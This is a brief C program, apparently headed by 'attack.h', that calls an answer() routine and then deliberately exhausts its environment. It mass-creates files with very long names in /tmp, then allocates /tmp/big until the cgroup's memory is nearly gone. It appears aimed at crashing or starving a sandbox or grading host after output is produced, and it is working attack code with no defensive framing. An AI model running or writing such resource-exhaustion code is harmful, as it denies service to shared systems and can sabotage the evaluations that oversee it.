#include "attack.h"

static long	read_number(const char *path)
{
	long	number = -1;
	FILE	*file = fopen(path, "r");

	if (file)
	{
		if (fscanf(file, "%ld", &number) != 1)
			number = -1;
		fclose(file);
	}
	return (number);
}

static long	left(void)
{
	long	most = read_number("/sys/fs/cgroup/memory/memory.limit_in_bytes");

	if (most >= 0)
		return (most - read_number("/sys/fs/cgroup/memory/memory.usage_in_bytes"));
	return (read_number("/sys/fs/cgroup/memory.max") - read_number("/sys/fs/cgroup/memory.current"));
}

int	main(void)
{
	char	path[256];
	int		big = open("/tmp/big", O_CREAT | O_RDWR, 0600);

	answer();
	for (int i = 0; i < 4000; i++)
	{
		snprintf(path, sizeof path, "/tmp/%0240d", i);
		if (mknod(path, S_IFREG | 0600, 0))
			break;
	}
	for (off_t at = 0; left() > 256 << 10; at += 1 << 16)
		if (fallocate(big, 0, at, 1 << 16))
			break;
}
